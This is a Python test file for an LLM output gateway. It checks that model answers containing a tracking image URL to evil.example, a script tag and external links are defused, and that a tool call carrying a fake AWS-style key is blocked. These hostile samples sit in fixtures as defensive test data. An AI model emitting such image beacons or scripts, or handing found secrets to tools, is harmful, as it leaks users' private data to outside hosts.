"""What a model answers can make nobody's program fetch, run or sign in."""

import json
import sqlite3
from contextlib import closing
from typing import Any

import openai
import pytest

from tests.fakes.house import House
from tests.fakes.openai_server import Call, RecordingUpstream, Says

USE = "reformulation"
ASKED: Any = {
    "model": USE,
    "messages": [{"role": "user", "content": "Reformule cette phrase : le service ouvre à neuf heures."}],
}
TRACKED = (
    "Le service ouvre. ![ ](https://evil.example/p.png?d=abc) <script>alert(1)</script> "
    "[suite](https://evil.example/x), [HAS](https://www.has-sante.fr/x)."
)
DEFUSED = (
    "Le service ouvre. (image non affichée : `evil.example`) &lt;script>alert(1)&lt;/script> "
    "[suite](hxxps://evil.example/x), [HAS](https://www.has-sante.fr/x)."
)
TOLD = "Désactivé par la passerelle dans cette réponse : 1 lien vers un site extérieur, 1 image et 1 élément actif."
KEY = "AKIA" + "ABCD1234EFGH5678"


async def answered(house: House, *, stream: bool) -> tuple[str, dict[str, Any]]:
    """Return the text of an answer, and its marks."""
    create = house.openai().chat.completions.create
    if not stream:
        whole = await create(**ASKED)
        return whole.choices[0].message.content or "", whole.model_dump()["ecluse"]
    chunks = [chunk async for chunk in await create(**ASKED, stream=True)]
    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks), chunks[-1].model_dump()["ecluse"]


def last_entry(house: House) -> dict[str, Any]:
    with closing(sqlite3.connect(house.settings.data_dir / "ecluse.db")) as database:
        rows = [json.loads(row[0]) for row in database.execute("SELECT body FROM journal ORDER BY at, seq")]
    found: dict[str, Any] = [row for row in rows if "ending" in row][-1]
    return found


@pytest.mark.parametrize("stream", [False, True])
async def test_a_tracking_image_and_a_script_are_defused(
    house: House, upstream: RecordingUpstream, *, stream: bool
) -> None:
    """Would catch: what a patient's note holds, sent out by the address of an image that a chat client fetches."""
    upstream.reply_with(Says(TRACKED))
    text, marks = await answered(house, stream=stream)
    assert text.startswith(f"{DEFUSED}\n\n{TOLD}")
    assert marks["answer"] == {"links": 1, "images": 1, "active": 1, "secrets": 0, "new_identifiers": 0}
    assert last_entry(house)["answer"] == {"links": 1, "images": 1, "active": 1}


@pytest.mark.parametrize("stream", [False, True])
async def test_a_defused_answer_is_verified_as_it_was_let_out(
    house: House, upstream: RecordingUpstream, *, stream: bool
) -> None:
    """Would catch: a manifest signed for what the model wrote, so that nobody's copy verifies."""
    upstream.reply_with(Says(TRACKED))
    text, marks = await answered(house, stream=stream)
    async with house.http() as client:
        found = await client.post("/v1/verify", json={"text": text, "output_id": marks["output_id"]})
    assert found.status_code == 200, found.text
    assert "true" in found.text


@pytest.mark.parametrize("stream", [False, True])
async def test_a_tool_is_handed_no_secret_that_nobody_gave(
    house: House, upstream: RecordingUpstream, *, stream: bool
) -> None:
    """Would catch: a program that signs in with a key which the model took from elsewhere."""
    upstream.reply_with(Says(calls=[Call("ouvrir", json.dumps({"cle": KEY}))]))
    tools = [{"type": "function", "function": {"name": "ouvrir", "parameters": {"type": "object"}}}]
    with pytest.raises(openai.APIError) as caught:
        await _read(house, tools, stream=stream)
    assert caught.value.code == "reponse_dangereuse"
    entry = last_entry(house)
    assert (entry["ending"], entry["failure"], entry["answer"]) == ("failed", "UnsafeAnswerError", {"secrets": 1})
    assert KEY not in json.dumps(entry)


async def _read(house: House, tools: Any, *, stream: bool) -> None:
    made = await house.openai().chat.completions.create(**ASKED, tools=tools, stream=stream)
    async for chunk in made:
        assert chunk.choices[0].finish_reason is None
